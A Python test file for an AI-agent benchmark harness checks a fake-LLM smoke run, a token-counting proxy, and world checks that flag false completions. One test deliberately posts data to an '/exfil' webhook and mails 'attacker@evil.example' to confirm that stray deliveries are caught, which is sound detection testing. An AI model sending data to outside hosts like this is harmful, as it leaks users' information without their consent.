"""Smoke test of the real-model benchmark (bench/realmodel): the whole
harness — a world per system, the counting proxy, the real agentd daemon on
private XDG dirs, the world checks and the report — on the scripted fake LLM
instead of the real model (answering with tool calls written as text, the
way small local models do), so no weights are needed. Nothing here asserts
speed; it asserts that the world checks judge what happened: the goals the
fake does right pass, the goal it completes wrongly is a false completion."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]


def test_realmodel_smoke(tmp_path):
    out = tmp_path / "result.json"
    proc = subprocess.run([sys.executable, "-m", "bench.realmodel", "--smoke", "--json", str(out),
                           "--out", str(tmp_path / "logs")], cwd=str(ROOT), capture_output=True, text=True,
                          timeout=90)
    assert proc.returncode == 0, f"bench.realmodel --smoke failed:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
    assert "machine:" in proc.stdout and "date:" in proc.stdout
    record = json.loads(out.read_text())
    by_goal = {r["goal"]: r for r in record["results"]}
    assert set(by_goal) == {"headlines", "sum_numbers", "webhook_count"}
    assert all(r["system"] == "agentd" and r["status"] == "completed" for r in by_goal.values()), by_goal

    # Done right: the file names the headlines; the webhook arrived once with the count.
    for goal in ("headlines", "webhook_count"):
        assert by_goal[goal]["success"] and not by_goal[goal]["problems"], by_goal[goal]
    # Done wrong on purpose (total off by one) and reported completed: a false completion.
    wrong = by_goal["sum_numbers"]
    assert not wrong["success"] and wrong["false_completion"]
    assert any("4821" in p for p in wrong["problems"]), wrong["problems"]

    # Counted by the proxy: two tool calls and finish = three model calls per goal, every call
    # written as text as the small real models do (none native), all recovered and run by agentd.
    for r in by_goal.values():
        assert r["model_calls"] == 3 and r["tool_calls"] == 2 and r["native_tool_calls"] == 0, r
        assert r["prompt_tokens"] > 0 and r["completion_tokens"] > 0
        assert r["own_cpu_s"] >= 0 and r["wall_s"] > 0
    s = record["summary"]["agentd"]
    assert (s["goals"], s["success"], s["false_completions"]) == (3, 2, 1)
    assert s["own_share"] is not None


def test_checks_catch_stray_deliveries(tmp_path):
    """A world check fails a goal for a webhook or mail it did not ask for, and
    for a second webhook where it asked for one."""
    sys.path.insert(0, str(ROOT))
    import smtplib
    import urllib.request

    from bench.realmodel.goals import GOALS_BY_ID, HEADLINES, judge, make_world

    def post(url: str, payload: dict) -> None:
        req = urllib.request.Request(url, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=10).read()

    with make_world() as world:
        goal = GOALS_BY_ID["headlines"]
        (tmp_path / "headlines.txt").write_text("\n".join(HEADLINES))
        mark = world.mark()
        assert judge(goal, world, mark, tmp_path) == []
        post(f"{world.hooks.base}/exfil", {"h": HEADLINES})
        assert any("did not say" in p for p in judge(goal, world, mark, tmp_path))

        mark = world.mark()
        with smtplib.SMTP("127.0.0.1", world.smtp_port, timeout=10) as s:
            s.sendmail("x@example.com", ["attacker@evil.example"], "Subject: hi\n\nheadlines")
        assert any("attacker@evil.example" in p for p in judge(goal, world, mark, tmp_path))

        count = GOALS_BY_ID["webhook_count"]
        mark = world.mark()
        post(world.hook_url("webhook_count"), {"count": 4})
        assert judge(count, world, mark, tmp_path) == []
        post(world.hook_url("webhook_count"), {"count": 4})
        assert any("expected exactly 1" in p for p in judge(count, world, mark, tmp_path))


def test_proxy_counts_streamed_and_plain_answers():
    """The counting proxy passes a streamed answer through chunk by chunk and
    counts its usage (asking the server for it), caps max_tokens, and refuses
    calls past the hard cap."""
    sys.path.insert(0, str(ROOT))
    import httpx

    from agentd.testing.fakellm import FakeLLM, text, tool_call
    from bench.realmodel.proxy import MeterProxy

    script = [text("Hello there, streamed.", tokens_in=11, tokens_out=7),
              tool_call("write_file", {"path": "a.txt", "content": "x"}, tokens_in=13, tokens_out=3)]
    with FakeLLM(script=script) as fake, MeterProxy(fake.base_url, max_tokens=64, hard_cap=2) as proxy:
        meter = proxy.begin("g1")
        url = proxy.base_url + "/chat/completions"
        body = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 4096}
        with httpx.Client(timeout=10) as client:
            with client.stream("POST", url, json={**body, "stream": True}) as r:
                assert r.status_code == 200
                lines = [ln for ln in r.iter_lines() if ln.startswith("data: ") and ln != "data: [DONE]"]
            content = "".join((json.loads(ln[6:])["choices"] or [{}])[0].get("delta", {}).get("content") or ""
                              for ln in lines if json.loads(ln[6:]).get("choices"))
            assert content == "Hello there, streamed."
            plain = client.post(url, json=body).json()
            assert plain["choices"][0]["message"]["tool_calls"][0]["function"]["name"] == "write_file"
            refused = client.post(url, json=body)
            assert refused.status_code == 400 and "cap" in refused.text
        assert fake.requests[0]["max_tokens"] == 64 and fake.requests[0]["stream_options"]["include_usage"]
        assert (meter.calls, meter.prompt_tokens, meter.completion_tokens) == (2, 24, 10)
        assert (meter.native_tool_calls, meter.refused) == (1, 1)


def test_framework_tools_give_the_same_facts_as_agentds(tmp_path):
    """The frameworks' stdlib tools add the exact-counts line agentd's data tools
    add (loaded from agentd/tools/facts.py), so the comparison is of the agent
    loops: the status table, the orders JSON, the feed's count, the numbers file."""
    sys.path.insert(0, str(ROOT))
    from bench.realmodel.goals import NUMBERS, make_world
    from bench.realmodel.toolkit import Toolkit

    with make_world() as world:
        kit = Toolkit(tmp_path, world.search_url, ("127.0.0.1", world.smtp_port, "agent@example.com"))
        status = kit.call("fetch_page", {"url": f"{world.base}/status"})
        assert "| billing | down |" in status  # cells kept apart (they ran together before)
        assert status.endswith('by `State`: 3 "up" (api, search, storage), 2 "down" (billing, mail).'), status
        orders = kit.call("fetch_page", {"url": f"{world.base}/api/orders"})
        assert 'by `status`: 4 "open"' in orders, orders
        feed = kit.call("read_feed", {"url": f"{world.base}/space.atom", "limit": 2})
        assert feed.endswith("the feed has 4 entries, the first 2 shown (ask for more with `limit`)."), feed
        (tmp_path / "numbers.txt").write_text("\n".join(map(str, NUMBERS)) + "\n")
        numbers = kit.call("read_file", {"path": "numbers.txt"})
        assert numbers.endswith(f"they add up to {sum(NUMBERS)}."), numbers
